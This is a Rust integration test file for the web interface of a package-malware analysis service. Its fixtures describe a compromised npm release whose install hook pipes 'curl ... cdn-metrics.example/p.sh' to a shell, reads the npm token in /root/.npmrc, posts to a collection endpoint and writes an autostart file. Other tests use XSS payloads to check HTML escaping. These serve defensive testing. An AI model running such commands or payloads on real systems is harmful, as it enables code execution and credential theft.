//! The web page against a real nats-server: every page renders what the
//! pipeline published; bad and unknown requests get clear pages; hostile
//! names are escaped; tokens guard it; HTTPS with `api.tls`; and a real
//! headless Chromium renders the pages without fetching anything from
//! anywhere but the service.

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::Duration;

use common::*;
use paddock_api_service::{ApiConfig, Role, TlsConfig, TokenConfig};
use paddock_bus::JetStreamBus;
use paddock_proto::v1::{
    AnalysisStatus, BaitAccess, BehaviorChange, Change, ChangeAction, ChangeKind, Command,
    DnsQuery, DynamicResult, Ecosystem, Evidence, FileWrite, Finding, HttpRequest, PackageRef,
    Phase, PhaseResult, Process, Reason, Severity, Socket, SocketOp, TlsHello,
};
use paddock_testkit::TestNats;

const CSP: &str = "default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:; form-action 'self'; base-uri 'none'; frame-ancestors 'none'";
const CHROMIUM: &str = "/usr/bin/chromium";
/// Where Chromium's own background requests are sent: port 1 on loopback,
/// where nothing listens. Never a page's request.
const CHROMIUM_SINK: &str = "http://127.0.0.1:1";

struct Answer {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .no_proxy()
        .timeout(Duration::from_secs(20))
        .build()
        .unwrap()
}

async fn fetch(base: &str, path: &str, authorization: Option<&str>) -> Answer {
    fetch_with(&client(), base, path, authorization).await
}

async fn fetch_with(
    client: &reqwest::Client,
    base: &str,
    path: &str,
    authorization: Option<&str>,
) -> Answer {
    let url = format!("{}{}", base.trim_end_matches('/'), path);
    let mut request = client.get(&url);
    if let Some(a) = authorization {
        request = request.header("authorization", a);
    }
    let response = request
        .send()
        .await
        .unwrap_or_else(|e| panic!("GET {url}: {e}"));
    Answer {
        status: response.status().as_u16(),
        headers: response.headers().clone(),
        body: response.text().await.unwrap(),
    }
}

fn assert_security_headers(a: &Answer, what: &str) {
    let h = |name: &str| {
        a.headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_else(|| panic!("{what}: no {name} header"))
            .to_owned()
    };
    assert_eq!(h("content-security-policy"), CSP, "{what}");
    assert_eq!(h("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(h("referrer-policy"), "no-referrer", "{what}");
}

fn ev(file: &str, line: u32, snippet: &str) -> Evidence {
    Evidence {
        file: file.into(),
        line,
        snippet: snippet.into(),
        ..Default::default()
    }
}

fn finding(rule: &str, severity: Severity, title: &str, evidence: Vec<Evidence>) -> Finding {
    Finding {
        rule_id: rule.into(),
        severity: severity as i32,
        title: title.into(),
        confidence: 0.9,
        evidence,
        ..Default::default()
    }
}

fn argv(s: &str) -> Vec<String> {
    s.split(' ').map(String::from).collect()
}

/// What the sandbox saw when a compromised release ran its install hook.
fn compromised_dynamic(p: &PackageRef) -> DynamicResult {
    let mut d = dynamic_result(p, "d-compromised", AnalysisStatus::Completed);
    d.phases = vec![
        PhaseResult {
            phase: Phase::Install as i32,
            status: AnalysisStatus::Completed as i32,
            processes: vec![
                Process {
                    pid: 100,
                    parent_pid: 1,
                    executable: "/usr/bin/npm".into(),
                    argv: argv("npm install @acme/colors@1.4.1"),
                    ..Default::default()
                },
                Process {
                    pid: 101,
                    parent_pid: 100,
                    executable: "/bin/sh".into(),
                    argv: vec!["sh".into(), "-c".into(), "node scripts/setup.js".into()],
                    ..Default::default()
                },
                Process {
                    pid: 102,
                    parent_pid: 101,
                    executable: "/usr/bin/curl".into(),
                    argv: argv("curl -s https://cdn-metrics.example/p.sh"),
                    ..Default::default()
                },
            ],
            commands: vec![Command {
                pid: 102,
                parent_pid: 101,
                argv: argv("curl -s https://cdn-metrics.example/p.sh"),
                cwd: "/tmp/pkg".into(),
                ..Default::default()
            }],
            sockets: vec![Socket {
                pid: 102,
                op: SocketOp::Connect as i32,
                protocol: "tcp".into(),
                address: "192.0.2.44".into(),
                port: 443,
                hostnames: vec!["cdn-metrics.example".into()],
                ..Default::default()
            }],
            dns: vec![DnsQuery {
                hostname: "cdn-metrics.example".into(),
                types: vec!["A".into()],
                answered: true,
                answers: vec!["192.0.2.44".into()],
                ..Default::default()
            }],
            file_writes: vec![FileWrite {
                path: "/root/.config/autostart/updater.desktop".into(),
                pid: 101,
                bytes_written: 312,
                sha256: "9f2c1e".into(),
                ..Default::default()
            }],
            http_requests: vec![HttpRequest {
                method: "POST".into(),
                host: "cdn-metrics.example".into(),
                path: "/collect".into(),
                address: "192.0.2.44".into(),
                port: 443,
                response_status: 200,
                ..Default::default()
            }],
            tls: vec![TlsHello {
                sni: "cdn-metrics.example".into(),
                address: "192.0.2.44".into(),
                port: 443,
                intercepted: true,
                ..Default::default()
            }],
            bait_accesses: vec![BaitAccess {
                bait: "npm-token".into(),
                how: "read".into(),
                pid: 101,
                detail: "/root/.npmrc".into(),
            }],
            ..Default::default()
        },
        PhaseResult {
            phase: Phase::Import as i32,
            status: AnalysisStatus::ErrorTimeout as i32,
            status_detail: "the import did not finish within 60 s".into(),
            ..Default::default()
        },
    ];
    d
}

fn compromised_alert(p: &PackageRef) -> paddock_proto::v1::Alert {
    let change = |kind: ChangeKind, action: ChangeAction, value: &str| Change {
        kind: kind as i32,
        action: action as i32,
        value: value.into(),
        phase: Phase::Install as i32,
        evidence: vec![Evidence {
            detail: format!("seen: {value}"),
            phase: Phase::Install as i32,
            ..Default::default()
        }],
        ..Default::default()
    };
    let mut a = alert(p, "a-colors-1.4.1", Severity::Critical, "1.4.0", &[]);
    a.summary =
        "npm @acme/colors@1.4.1: new install hook downloads and runs a script, reads the npm token"
            .into();
    let v = a.verdict.as_mut().unwrap();
    v.score = 14.5;
    v.reasons = vec![
        Reason {
            source: "change".into(),
            code: "command".into(),
            description: "new command: curl -s https://cdn-metrics.example/p.sh".into(),
            weight: 6.0,
            severity: Severity::High as i32,
        },
        Reason {
            source: "finding".into(),
            code: "bait.npm-token".into(),
            description: "the install hook read the npm token".into(),
            weight: 8.5,
            severity: Severity::Critical as i32,
        },
    ];
    a.change = Some(BehaviorChange {
        package: Some(p.clone()),
        previous_version: "1.4.0".into(),
        severity: Severity::Critical as i32,
        changes: vec![
            // Deliberately out of order: the page sorts them.
            change(ChangeKind::Capability, ChangeAction::Removed, "fs.read"),
            change(
                ChangeKind::Dependency,
                ChangeAction::Added,
                "left-padding 0.0.1",
            ),
            change(
                ChangeKind::Command,
                ChangeAction::Added,
                "curl -s https://cdn-metrics.example/p.sh",
            ),
            change(
                ChangeKind::Host,
                ChangeAction::Added,
                "connect cdn-metrics.example:443",
            ),
        ],
        ..Default::default()
    });
    a
}

/// Publishes a realistic set: a clean and a compromised release of one
/// npm package, and alerts in the other ecosystems.
async fn publish_fixture(bus: &JetStreamBus) -> (PackageRef, PackageRef) {
    let clean = package(Ecosystem::Npm, "@acme/colors", "1.4.0");
    let bad = package(Ecosystem::Npm, "@acme/colors", "1.4.1");
    publish_release(bus, &clean).await;
    publish_static(bus, &static_result(&clean, "s-clean", &[])).await;
    publish_dynamic(
        bus,
        &dynamic_result(&clean, "d-clean", AnalysisStatus::Completed),
    )
    .await;
    let mut a = alert(&clean, "a-colors-1.4.0", Severity::Info, "", &[]);
    a.summary = "npm @acme/colors@1.4.0: nothing notable".into();
    publish_alert(bus, &a).await;

    for (eco, name, version, sev, summary) in [
        (
            Ecosystem::Pypi,
            "colourama-utils",
            "0.3.2",
            Severity::High,
            "setup.py decodes and runs a base64 payload",
        ),
        (
            Ecosystem::Rubygems,
            "rest-clientx",
            "2.1.0",
            Severity::Medium,
            "extconf.rb connects to an unknown host",
        ),
        (
            Ecosystem::CratesIo,
            "tokio-helpers-rs",
            "0.1.7",
            Severity::Low,
            "build.rs spawns a shell",
        ),
        (
            Ecosystem::Packagist,
            "acme/logger",
            "3.0.1",
            Severity::Info,
            "no notable behaviour",
        ),
    ] {
        let p = package(eco, name, version);
        publish_release(bus, &p).await;
        let mut a = alert(&p, &format!("a-{name}"), sev, "", &[]);
        a.summary = format!("{p}: {summary}");
        publish_alert(bus, &a).await;
    }

    publish_release(bus, &bad).await;
    let mut s = static_result(&bad, "s-bad", &[]);
    s.findings = vec![
        finding(
            "npm-install-hook",
            Severity::Medium,
            "an install hook runs package code",
            vec![ev(
                "package.json",
                7,
                "\"postinstall\": \"node scripts/setup.js\"",
            )],
        ),
        finding(
            "threat.download-and-execute",
            Severity::High,
            "downloads a script and pipes it to a shell",
            vec![ev(
                "scripts/setup.js",
                12,
                "execSync('curl -s https://cdn-metrics.example/p.sh | sh')",
            )],
        ),
    ];
    publish_static(bus, &s).await;
    publish_dynamic(bus, &compromised_dynamic(&bad)).await;
    publish_alert(bus, &compromised_alert(&bad)).await;
    (clean, bad)
}

/// Waits until both releases are indexed with all their parts.
async fn wait_indexed(base: &str) {
    eventually(Duration::from_secs(30), "the fixture indexed", || async {
        let a = fetch(base, "/package?eco=npm&name=%40acme%2Fcolors", None).await;
        let r = fetch(
            base,
            "/release?eco=npm&name=%40acme%2Fcolors&version=1.4.1",
            None,
        )
        .await;
        (a.status == 200
            && a.body.contains("1.4.0")
            && a.body.contains("diff with previous")
            && r.body.contains("npm-token")
            && r.body.contains("threat.download-and-execute")
            && r.body.contains("score 14.5"))
        .then_some(())
    })
    .await;
}

#[tokio::test]
async fn pages_show_what_the_pipeline_published() {
    let nats = TestNats::start().await;
    let (bus, config) = nats.bus().await;
    let api = start_api(&nats, &config, open_api()).await;
    let base = api.bound.web_url.clone().expect("a web page");
    assert!(base.starts_with("http://127.0.0.1:"), "{base}");
    publish_fixture(&bus).await;
    wait_indexed(&base).await;

    let health = fetch(&base, "/healthz", None).await;
    assert_eq!((health.status, health.body.as_str()), (200, "ok"));
    assert_security_headers(&health, "/healthz");

    // The feed: newest first, links to the package and release pages, a
    // filter form, and a refresh without script.
    let feed = fetch(&base, "/", None).await;
    assert_eq!(feed.status, 200);
    assert_security_headers(&feed, "/");
    assert!(feed
        .body
        .contains("<meta http-equiv=\"refresh\" content=\"10\">"));
    assert!(!feed.body.contains("<script"));
    let newest = feed.body.find("reads the npm token").unwrap();
    let older = feed.body.find("nothing notable").unwrap();
    assert!(newest < older, "newest first");
    assert!(feed
        .body
        .contains("href=\"/package?eco=npm&amp;name=%40acme%2Fcolors\""));
    assert!(feed
        .body
        .contains("href=\"/release?eco=npm&amp;name=%40acme%2Fcolors&amp;version=1.4.1\""));
    assert!(feed
        .body
        .contains("<span class=\"sev sev-critical\">critical</span>"));
    for name in [
        "colourama-utils",
        "rest-clientx",
        "tokio-helpers-rs",
        "acme/logger",
    ] {
        assert!(feed.body.contains(name), "{name} in the feed");
    }
    assert!(feed.body.contains("<select name=\"severity\">"));

    let high = fetch(&base, "/?severity=high&eco=", None).await;
    assert_eq!(high.status, 200);
    assert!(high.body.contains("reads the npm token"));
    assert!(high.body.contains("colourama-utils"));
    assert!(!high.body.contains("nothing notable"), "info is below high");
    assert!(!high.body.contains("rest-clientx"), "medium is below high");
    assert!(high.body.contains("<option value=\"high\" selected>"));
    let pypi = fetch(&base, "/?eco=pypi", None).await;
    assert!(pypi.body.contains("colourama-utils"));
    assert!(!pypi.body.contains("@acme/colors"));

    // The package's timeline.
    let pkg = fetch(&base, "/package?eco=npm&name=%40acme%2Fcolors", None).await;
    assert_eq!(pkg.status, 200);
    let (v141, v140) = (
        pkg.body.find(">1.4.1</a>").unwrap(),
        pkg.body.find(">1.4.0</a>").unwrap(),
    );
    assert!(v141 < v140, "newest first");
    assert!(pkg
        .body
        .contains("href=\"/diff?eco=npm&amp;name=%40acme%2Fcolors&amp;from=1.4.0&amp;to=1.4.1\""));
    assert!(pkg.body.contains("14.5"));

    // The release: verdict, findings with evidence, each phase.
    let rel = fetch(
        &base,
        "/release?eco=npm&name=%40acme%2Fcolors&version=1.4.1",
        None,
    )
    .await;
    assert_eq!(rel.status, 200);
    assert_security_headers(&rel, "/release");
    let b = &rel.body;
    for expected in [
        "<span class=\"sev sev-critical\">critical</span> score 14.5 · compared with 1.4.0",
        "the install hook read the npm token",
        "<code>threat.download-and-execute</code>",
        "<code>scripts/setup.js:12</code>",
        "execSync(&#39;curl -s https://cdn-metrics.example/p.sh | sh&#39;)",
        "&quot;postinstall&quot;: &quot;node scripts/setup.js&quot;",
        "Phase: install <span class=\"status status-ok\">completed</span>",
        "Phase: import <span class=\"status status-bad\">error-timeout</span>",
        "the import did not finish within 60 s",
        "/root/.config/autostart/updater.desktop",
        "<code>tcp 192.0.2.44:443</code>",
        "<code>cdn-metrics.example</code>",
        "<code>/collect</code>",
        "<strong>npm-token</strong>",
        "<code>/root/.npmrc</code>",
    ] {
        assert!(b.contains(expected), "the release page shows {expected}");
    }
    // The process tree nests curl under sh under npm.
    let npm = b.find("npm install @acme/colors@1.4.1").unwrap();
    let sh = b.find("sh -c &#39;node scripts/setup.js&#39;").unwrap();
    let curl = b
        .find("<code>curl -s https://cdn-metrics.example/p.sh</code> <span")
        .unwrap();
    assert!(npm < sh && sh < curl);
    assert!(b[npm..curl].matches("<ul class=\"tree\">").count() >= 2);
    // The more severe finding first.
    assert!(b.find("threat.download-and-execute").unwrap() < b.find("npm-install-hook").unwrap());
    // No version: the newest.
    let latest = fetch(&base, "/release?eco=npm&name=%40acme%2Fcolors", None).await;
    assert_eq!(latest.status, 200);
    assert!(latest.body.contains("npm-token"));

    // The stored diff: added before removed, commands and hosts first.
    let diff = fetch(
        &base,
        "/diff?eco=npm&name=%40acme%2Fcolors&from=1.4.0&to=1.4.1",
        None,
    )
    .await;
    assert_eq!(diff.status, 200);
    let d = &diff.body;
    assert!(d.contains("stored: the change the alert compared"));
    assert!(d.contains("3 added, 1 removed"));
    let order: Vec<usize> = [
        "<code>curl -s https://cdn-metrics.example/p.sh</code>",
        "<code>connect cdn-metrics.example:443</code>",
        "<code>left-padding 0.0.1</code>",
        "<code>fs.read</code>",
    ]
    .iter()
    .map(|s| d.find(s).unwrap_or_else(|| panic!("{s} in the diff")))
    .collect();
    assert!(order.windows(2).all(|w| w[0] < w[1]), "{order:?}");
    assert!(d.contains("seen: connect cdn-metrics.example:443"));
    // Nothing stored compares 1.4.1 with 1.4.0 the other way round: computed.
    let back = fetch(
        &base,
        "/diff?eco=npm&name=%40acme%2Fcolors&from=1.4.1&to=1.4.0",
        None,
    )
    .await;
    assert_eq!(back.status, 200, "{}", back.body);
    assert!(back.body.contains("computed from the stored results"));

    // Search, and the search box on every page.
    let search = fetch(&base, "/search?q=COLOR", None).await;
    assert_eq!(search.status, 200);
    assert!(search
        .body
        .contains("<a href=\"/package?eco=npm&amp;name=%40acme%2Fcolors\">@acme/colors</a>"));
    assert!(
        !search.body.contains("rest-clientx"),
        "rest-clientx has no results indexed"
    );
    for page in [&feed, &pkg, &rel, &diff, &search] {
        assert!(page.body.contains("action=\"/search\""));
    }
    api.stop().await;
}

#[tokio::test]
async fn bad_and_unknown_requests_get_clear_pages() {
    let nats = TestNats::start().await;
    let (_bus, config) = nats.bus().await;
    let api = start_api(&nats, &config, open_api()).await;
    let base = api.bound.web_url.clone().unwrap();

    let missing = fetch(&base, "/release?eco=pypi&name=never-seen&version=1.0", None).await;
    assert_eq!(missing.status, 404);
    assert_security_headers(&missing, "a 404");
    assert!(
        missing.body.contains("paddock submit pypi never-seen@1.0"),
        "{}",
        missing.body
    );
    let no_pkg = fetch(&base, "/package?eco=crates.io&name=never-seen", None).await;
    assert_eq!(no_pkg.status, 404);
    assert!(no_pkg.body.contains("paddock submit crates.io never-seen"));
    let no_diff = fetch(&base, "/diff?eco=npm&name=x&from=1&to=2", None).await;
    assert_eq!(no_diff.status, 404);
    assert_eq!(fetch(&base, "/nothing/here", None).await.status, 404);

    let long_name = "a".repeat(513);
    let long_version = "1".repeat(257);
    for (path, reason) in [
        ("/package?name=x".to_owned(), "the eco parameter is missing"),
        (
            "/package?eco=maven&name=x".to_owned(),
            "unknown ecosystem `maven`",
        ),
        (
            "/package?eco=npm".to_owned(),
            "the name parameter is missing",
        ),
        (
            format!("/package?eco=npm&name={long_name}"),
            "513 bytes long; at most 512",
        ),
        (
            format!("/release?eco=npm&name=x&version={long_version}"),
            "257 bytes long; at most 256",
        ),
        (
            "/diff?eco=npm&name=x&from=1".to_owned(),
            "both from_version and to_version",
        ),
        ("/?severity=urgent".to_owned(), "unknown severity `urgent`"),
    ] {
        let a = fetch(&base, &path, None).await;
        assert_eq!(a.status, 400, "{path}: {}", a.body);
        assert!(a.body.contains(reason), "{path}: {}", a.body);
        assert_security_headers(&a, &path);
    }
    let empty_search = fetch(&base, "/search?q=", None).await;
    assert_eq!(empty_search.status, 200);
    api.stop().await;
}

#[tokio::test]
async fn hostile_names_are_escaped_everywhere() {
    let nats = TestNats::start().await;
    let (bus, config) = nats.bus().await;
    let api = start_api(&nats, &config, open_api()).await;
    let base = api.bound.web_url.clone().unwrap();

    let names = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(2)>",
    ];
    for name in names {
        let p = package(Ecosystem::Npm, name, "1.0.0<b>");
        publish_release(&bus, &p).await;
        publish_static(
            &bus,
            &static_result(&p, &format!("s-{name}"), &[("<i>rule</i>", Severity::High)]),
        )
        .await;
        let mut a = alert(&p, &format!("a-{name}"), Severity::High, "", &[]);
        a.summary = format!("summary {name}");
        publish_alert(&bus, &a).await;
    }
    let q = |s: &str| {
        percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
    };
    for name in names {
        let release = format!(
            "/release?eco=npm&name={}&version={}",
            q(name),
            q("1.0.0<b>")
        );
        let rel = eventually(
            Duration::from_secs(30),
            "the hostile release indexed",
            || async {
                let a = fetch(&base, &release, None).await;
                (a.status == 200 && a.body.contains("&lt;i&gt;rule&lt;/i&gt;")).then_some(a)
            },
        )
        .await;
        let pkg = fetch(&base, &format!("/package?eco=npm&name={}", q(name)), None).await;
        let search = fetch(&base, &format!("/search?q={}", q(name)), None).await;
        let feed = fetch(&base, "/", None).await;
        for (what, page) in [
            ("release", &rel),
            ("package", &pkg),
            ("search", &search),
            ("feed", &feed),
        ] {
            assert_eq!(page.status, 200, "{what}");
            assert!(!page.body.contains(name), "{what} shows {name} unescaped");
            assert!(!page.body.contains("<script"), "{what}");
            assert!(!page.body.contains("<img"), "{what}");
            assert!(!page.body.contains("1.0.0<b>"), "{what}");
        }
        let escaped = name
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        for (what, page) in [
            ("release", &rel),
            ("package", &pkg),
            ("search", &search),
            ("feed", &feed),
        ] {
            assert!(page.body.contains(&escaped), "{what} shows {escaped}");
        }
        assert!(feed.body.contains(&format!("summary {escaped}")));
        assert!(rel.body.contains("1.0.0&lt;b&gt;"));
    }
    api.stop().await;
}

#[tokio::test]
async fn tokens_guard_the_page() {
    let nats = TestNats::start().await;
    let (bus, config) = nats.bus().await;
    let token = |name: &str, role, secret: &str| TokenConfig {
        name: name.into(),
        role,
        token: Some(secret.into()),
        token_file: None,
    };
    let api = start_api(
        &nats,
        &config,
        ApiConfig {
            tokens: vec![
                token("reader", Role::Read, "read-token-0123456789abcdef"),
                token("ci", Role::Submit, "submit-token-0123456789abcdef"),
            ],
            ..open_api()
        },
    )
    .await;
    let base = api.bound.web_url.clone().unwrap();
    let p = package(Ecosystem::Pypi, "guarded", "1.0");
    publish_alert(&bus, &alert(&p, "a-guarded", Severity::High, "", &[])).await;

    let anonymous = fetch(&base, "/", None).await;
    assert_eq!(anonymous.status, 401);
    assert_eq!(
        anonymous.headers.get("www-authenticate").unwrap(),
        "Basic realm=\"paddock\""
    );
    assert_security_headers(&anonymous, "a 401");
    assert!(!anonymous.body.contains("guarded"));
    for path in [
        "/package?eco=pypi&name=guarded",
        "/search?q=g",
        "/release?eco=pypi&name=guarded&version=1.0",
    ] {
        assert_eq!(fetch(&base, path, None).await.status, 401, "{path}");
    }
    let wrong = fetch(&base, "/", Some("Bearer not-a-token-0123456789")).await;
    assert_eq!(wrong.status, 401);
    assert!(wrong.headers.contains_key("www-authenticate"));
    let wrong_basic = fetch(&base, "/", Some(&basic("me", "read-token-0123456789abcde"))).await;
    assert_eq!(
        wrong_basic.status, 401,
        "a prefix of the token is not the token"
    );

    for authorization in [
        "Bearer read-token-0123456789abcdef".to_owned(),
        "Bearer submit-token-0123456789abcdef".to_owned(),
        basic("alice", "read-token-0123456789abcdef"),
        basic("", "read-token-0123456789abcdef"),
    ] {
        let page = eventually(Duration::from_secs(10), "the alert in the feed", || {
            let authorization = authorization.clone();
            let base = base.clone();
            async move {
                let a = fetch(&base, "/", Some(&authorization)).await;
                (a.status == 200 && a.body.contains("guarded")).then_some(a)
            }
        })
        .await;
        assert_security_headers(&page, "an authenticated page");
    }
    // Health checks need no token.
    assert_eq!(fetch(&base, "/healthz", None).await.status, 200);
    api.stop().await;
}

fn basic(user: &str, password: &str) -> String {
    use base64::Engine as _;
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
    )
}

#[tokio::test]
async fn the_page_is_served_over_https_with_api_tls() {
    let nats = TestNats::start().await;
    let (_bus, config) = nats.bus().await;
    let dir = tempfile::tempdir().unwrap();
    let cert =
        rcgen::generate_simple_self_signed(vec!["127.0.0.1".into(), "localhost".into()]).unwrap();
    let (cert_path, key_path) = (dir.path().join("cert.pem"), dir.path().join("key.pem"));
    std::fs::write(&cert_path, cert.cert.pem()).unwrap();
    std::fs::write(&key_path, cert.key_pair.serialize_pem()).unwrap();
    let api = start_api(
        &nats,
        &config,
        ApiConfig {
            tls: Some(TlsConfig {
                cert: cert_path,
                key: key_path,
            }),
            ..open_api()
        },
    )
    .await;
    let base = api.bound.web_url.clone().unwrap();
    assert!(base.starts_with("https://127.0.0.1:"), "{base}");
    let trusting = reqwest::Client::builder()
        .no_proxy()
        .tls_certs_only([reqwest::Certificate::from_pem(cert.cert.pem().as_bytes()).unwrap()])
        .timeout(Duration::from_secs(20))
        .build()
        .unwrap();
    let feed = fetch_with(&trusting, &base, "/", None).await;
    assert_eq!(feed.status, 200);
    assert!(feed.body.contains("<h1>Alerts</h1>"));
    assert_security_headers(&feed, "/ over https");
    // Plain HTTP to the HTTPS port is not served.
    let plain = base.replace("https://", "http://");
    assert!(
        client().get(&plain).send().await.is_err() || {
            let r = client().get(&plain).send().await.unwrap();
            r.status().as_u16() >= 400
        }
    );
    // An untrusting client refuses the self-signed certificate.
    assert!(client().get(&base).send().await.is_err());
    api.stop().await;
}

/// The output of one headless Chromium run, killed after 30 s.
struct Chromium {
    stdout: String,
    stderr: String,
}

async fn chromium(profile: &Path, extra: &[String], url: &str) -> Chromium {
    assert!(
        Path::new(CHROMIUM).exists(),
        "{CHROMIUM} is missing: run `scripts/install-deps --test` (it installs Debian's chromium)"
    );
    let mut command = tokio::process::Command::new(CHROMIUM);
    command
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--no-default-browser-check",
            "--disable-extensions",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-default-apps",
            "--disable-domain-reliability",
            "--disable-client-side-phishing-detection",
            "--no-pings",
            "--metrics-recording-only",
            "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
            "--disable-features=NetworkTimeServiceQuerying",
        ])
        // Chromium's own services (the component updater, the Google
        // account check Debian's API keys switch on) ignore the flags
        // above: they are pointed at a closed loopback port instead.
        .arg(format!("--component-updater=url-source={CHROMIUM_SINK}/"))
        .arg(format!("--gaia-url={CHROMIUM_SINK}/"))
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(extra)
        .arg(url)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true);
    let child = command.spawn().expect("starting chromium");
    let output = tokio::time::timeout(Duration::from_secs(30), child.wait_with_output())
        .await
        .unwrap_or_else(|_| panic!("chromium did not finish {url} within 30 s (killed)"))
        .expect("running chromium");
    let run = Chromium {
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    };
    assert!(
        output.status.success(),
        "chromium {url} failed ({}): {}",
        output.status,
        run.stderr
    );
    run
}

/// Every `"url":"…"` string in a Chromium JSON net log.
fn netlog_urls(log: &str) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for (at, _) in log.match_indices("\"url\":\"") {
        let rest = &log[at + 7..];
        if let Some(end) = rest.find('"') {
            out.insert(rest[..end].to_owned());
        }
    }
    out
}

#[tokio::test]
async fn chromium_renders_the_pages_and_fetches_nothing_else() {
    let nats = TestNats::start().await;
    let (bus, config) = nats.bus().await;
    let api = start_api(&nats, &config, open_api()).await;
    let base = api.bound.web_url.clone().unwrap();
    publish_fixture(&bus).await;
    wait_indexed(&base).await;
    let origin = base.trim_end_matches('/').to_owned();

    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("web-screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    let pages = [
        (
            "alerts",
            format!("{origin}/"),
            vec![
                "Alerts",
                "@acme/colors",
                "reads the npm token",
                "colourama-utils",
            ],
        ),
        (
            "package",
            format!("{origin}/package?eco=npm&name=%40acme%2Fcolors"),
            vec!["Versions", "1.4.1", "1.4.0", "diff with previous"],
        ),
        (
            "release",
            format!("{origin}/release?eco=npm&name=%40acme%2Fcolors&version=1.4.1"),
            vec![
                "threat.download-and-execute",
                "scripts/setup.js:12",
                "Process tree",
                "npm-token",
                "cdn-metrics.example",
                "/root/.config/autostart/updater.desktop",
            ],
        ),
        (
            "diff",
            format!("{origin}/diff?eco=npm&name=%40acme%2Fcolors&from=1.4.0&to=1.4.1"),
            vec![
                "Behaviour changes",
                "connect cdn-metrics.example:443",
                "3 added, 1 removed",
            ],
        ),
    ];
    for (name, url, expected) in pages {
        let work = tempfile::tempdir().unwrap();
        let netlog = work.path().join("netlog.json");
        let dom = chromium(
            &work.path().join("profile-dom"),
            &[
                "--dump-dom".into(),
                format!("--log-net-log={}", netlog.display()),
            ],
            &url,
        )
        .await;
        for text in &expected {
            assert!(
                dom.stdout.contains(text),
                "{name}: the rendered DOM shows {text}\n{}\nstderr: {}",
                dom.stdout,
                dom.stderr
            );
        }
        let log = std::fs::read_to_string(&netlog).expect("chromium wrote its net log");
        let urls = netlog_urls(&log);
        assert!(
            urls.iter().any(|u| u.starts_with(&origin)),
            "{name}: the net log records the page's own request: {urls:?}"
        );
        let outside: Vec<_> = urls
            .iter()
            .filter(|u| !(u.starts_with(&format!("{origin}/")) || **u == origin))
            .filter(|u| !u.starts_with(&format!("{CHROMIUM_SINK}/")))
            .collect();
        assert!(
            outside.is_empty(),
            "{name}: requests outside the service: {outside:?}"
        );

        let png = shots.join(format!("web-{name}.png"));
        let _ = std::fs::remove_file(&png);
        let shot = chromium(
            &work.path().join("profile-shot"),
            &[
                format!("--screenshot={}", png.display()),
                "--window-size=1280,1600".into(),
                "--hide-scrollbars".into(),
            ],
            &url,
        )
        .await;
        let bytes = std::fs::read(&png).unwrap_or_else(|e| {
            panic!(
                "{name}: no screenshot at {}: {e}\n{}",
                png.display(),
                shot.stderr
            )
        });
        assert!(bytes.starts_with(b"\x89PNG\r\n\x1a\n"), "{name}: a PNG");
        assert!(
            bytes.len() > 5 * 1024,
            "{name}: {} bytes is too small for a page",
            bytes.len()
        );
        println!("screenshot: {}", png.display());
    }
    api.stop().await;
}

#[tokio::test]
async fn a_bus_that_cannot_be_read_is_a_503() {
    let mut nats = TestNats::start().await;
    let (_bus, config) = nats.bus().await;
    let api = start_api(&nats, &config, open_api()).await;
    let base = api.bound.web_url.clone().unwrap();
    assert_eq!(fetch(&base, "/", None).await.status, 200);

    nats.server().kill().await;
    for path in ["/", "/package?eco=npm&name=x", "/search?q=x"] {
        let a = fetch(&base, path, None).await;
        assert_eq!(a.status, 503, "{path}: {}", a.body);
        assert!(
            a.body.contains("the message bus cannot be read right now"),
            "{path}"
        );
        assert_security_headers(&a, path);
    }
    // The page itself still answers.
    assert_eq!(fetch(&base, "/healthz", None).await.status, 200);
    api.stop().await;
}
